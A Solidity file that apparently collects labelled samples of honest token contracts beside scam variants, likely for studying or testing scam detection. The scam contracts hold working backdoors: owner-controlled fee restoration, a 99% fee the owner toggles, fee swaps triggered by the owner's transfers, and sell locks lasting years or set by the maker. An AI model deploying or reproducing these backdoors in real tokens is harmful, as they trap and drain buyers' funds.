// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

/// A fee that is put aside while those who pay none move something (as tokens after SafeMoon do).
abstract contract PutBackLike {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) private spared;
    address public owner = msg.sender;
    uint256 internal fee = 5;
    uint256 internal before;

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    constructor() {
        balanceOf[msg.sender] = 1e27;
    }

    function setFee(uint256 percent) external onlyOwner {
        require(percent <= 10, "too much");
        fee = percent;
    }

    function spare(address account, bool isSpared) external onlyOwner {
        spared[account] = isSpared;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        move(from, to, amount);
        return true;
    }

    function putAside() internal {
        if (fee == 0) return;
        before = fee;
        fee = 0;
    }

    function putBack() internal {
        fee = before;
    }

    function move(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "nobody");
        bool isFree = spared[from] || spared[to];
        if (isFree) putAside();
        uint256 taken = amount * fee / 100;
        balanceOf[from] -= amount;
        balanceOf[to] += amount - taken;
        balanceOf[address(this)] += taken;
        if (isFree) putBack();
    }
}

contract HonestPutBack is PutBackLike {}

/// What is put back is what the owner has said.
contract ScamPutBackSet is PutBackLike {
    function setBefore(uint256 percent) external onlyOwner {
        before = percent;
    }
}

/// The owner lowers the fee for as long as he likes.
contract ScamPutBackLater is PutBackLike {
    constructor() {
        fee = 99;
    }

    function lower() external onlyOwner {
        putAside();
    }

    function raise() external onlyOwner {
        putBack();
    }
}

/// Each move of the owner's exchanges the fee for another number.
abstract contract ExchangedLike {
    mapping(address => uint256) public balanceOf;
    address public owner = msg.sender;
    uint256 internal fee = 1;
    uint256 internal other = 99;

    function transfer(address to, uint256 amount) external returns (bool) {
        if (msg.sender == owner) exchange(to, amount);
        uint256 taken = amount * fee / 100;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount - taken;
        balanceOf[owner] += taken;
        return true;
    }

    function exchange(address to, uint256 amount) internal virtual;
}

contract ScamExchanged is ExchangedLike {
    function exchange(address, uint256) internal override {
        (fee, other) = (other, fee);
    }
}

contract ScamExchangedBySign is ExchangedLike {
    function exchange(address to, uint256) internal override {
        if (to != address(0xdead)) return;
        uint256 before = fee;
        fee = 0;
        fee = other;
        other = before;
    }
}

contract ScamFeeIsAmount is ExchangedLike {
    function exchange(address, uint256 amount) internal override {
        fee = amount % 100;
    }
}

/// Whoever has bought waits for a block and one more.
abstract contract NextBlockLike {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) internal bought;
    address internal immutable maker = msg.sender;
    address internal pair;

    constructor(address pool) {
        balanceOf[msg.sender] = 1e27;
        pair = pool;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        move(from, to, amount);
        return true;
    }

    function move(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "nobody");
        if (from == pair) bought[to] = noted();
        else require(block.number > bought[from] + 1, "wait");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }

    function noted() internal view virtual returns (uint256) {
        return block.number;
    }
}

contract HonestNextBlock is NextBlockLike {
    constructor(address pool) NextBlockLike(pool) {}
}

/// The pause ends in years.
contract ScamNextYears is NextBlockLike {
    constructor(address pool) NextBlockLike(pool) {}

    function noted() internal view override returns (uint256) {
        return block.number + 10_000_000;
    }
}

/// The maker has it begin for whom he likes.
contract ScamNextForOthers is NextBlockLike {
    constructor(address pool) NextBlockLike(pool) {}

    function wait(address account, uint256 since) external {
        require(msg.sender == maker);
        bought[account] = since;
    }
}
